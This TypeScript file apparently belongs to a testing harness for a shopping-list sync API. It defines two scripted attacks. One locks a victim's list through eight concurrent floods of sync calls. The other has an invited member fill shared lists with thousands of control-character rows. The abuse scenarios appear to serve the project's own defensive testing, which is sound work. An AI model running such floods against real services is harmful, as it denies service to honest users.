import { randomUUID } from 'node:crypto'
import { setTimeout as wait } from 'node:timers/promises'
import { type Attack, json } from './attack.ts'
import type { Attacker } from './attacker.ts'
import { clockNow } from './list-member.ts'

const ownLists = 19
/** As many as 19 lists may have by the quota of an account. */
const itemsOfList = 4_000
const removedRows = 11_500
const addedRows = 1_990
const rowsOfCall = 500

function call({ ask, shopper }: Attacker, name: string, body: object) {
  const headers = { ...shopper.headers, ...json }
  return ask({
    path: `/rest/v1/rpc/${name}`,
    method: 'POST',
    headers,
    body: JSON.stringify(body),
  })
}

function exchange(attacker: Attacker, changes: object) {
  return call(attacker, 'sync_lists', { known: {}, changes })
}

function itemOf(list: string, text: string, fields = {}) {
  const at = clockNow()
  const clocks = { text: at, place: at, present: at }
  return { list, key: text, text, before: ', ', place: 1, present: true, clocks, ...fields }
}

/** Lists of the attacker that are as full as they may be. */
async function fillOwnLists(attacker: Attacker): Promise<string[]> {
  const uids = Array.from({ length: ownLists }, () => randomUUID())
  const at = clockNow()
  const clocks = { name: at, present: at, trip: at, store: at }
  const fields = { present: true, trip: 1, store: null, is_new: true, clocks }
  await exchange(attacker, {
    lists: uids.map((list) => ({ list, name: list, ...fields })),
    items: uids.map((list) => itemOf(list, 'tea')),
  })
  const headers = { ...attacker.shopper.headers, ...json }
  const body = JSON.stringify({ items: 'a,'.repeat(itemsOfList) })
  for (const uid of uids) {
    const path = `/rest/v1/saved_lists?name=eq.${uid}`
    await attacker.ask({ path, method: 'PATCH', headers, body })
  }
  return uids
}

/** Sends rows of a list in as few calls as may be. */
async function sendItems(
  attacker: Attacker,
  count: number,
  itemAt: (nth: number) => Record<string, unknown>,
) {
  for (let from = 0; from < count; from += rowsOfCall) {
    const length = Math.min(rowsOfCall, count - from)
    await exchange(attacker, { items: Array.from({ length }, (_, nth) => itemAt(from + nth)) })
  }
}

export const listAttacks: Record<string, Attack> = {
  'list-locks': {
    name: 'Exchanges of 19 full lists that name one of the honest shopper, 8 at once',
    run: async (attacker, { lists: [victims = ''] }) => {
      const uids = await fillOwnLists(attacker)
      const exchangeAll = async () => {
        for (let nth = 0; !attacker.isOver(); nth += 1) {
          const items = [...uids, victims].map((list) => itemOf(list, 'tea', { place: nth }))
          const answer = await exchange(attacker, { items })
          if (answer !== 200) await wait(20)
        }
      }
      await Promise.all(Array.from({ length: 8 }, exchangeAll))
    },
  },
  'list-floods': {
    name: 'A member fills two shared lists with control characters',
    run: async (attacker, { lists: [first = '', second = ''], secrets }) => {
      for (const secret of secrets) await call(attacker, 'accept_list_invite', { secret })
      await sendItems(attacker, addedRows, (nth) =>
        itemOf(first, `x${nth}`, { text: '\u0001'.repeat(140), present: false }),
      )
      await sendItems(attacker, removedRows, (nth) =>
        itemOf(second, `x${nth}`, { text: 'x', before: '\u000b'.repeat(39), present: false }),
      )
      while (!attacker.isOver()) await wait(500)
    },
  },
}
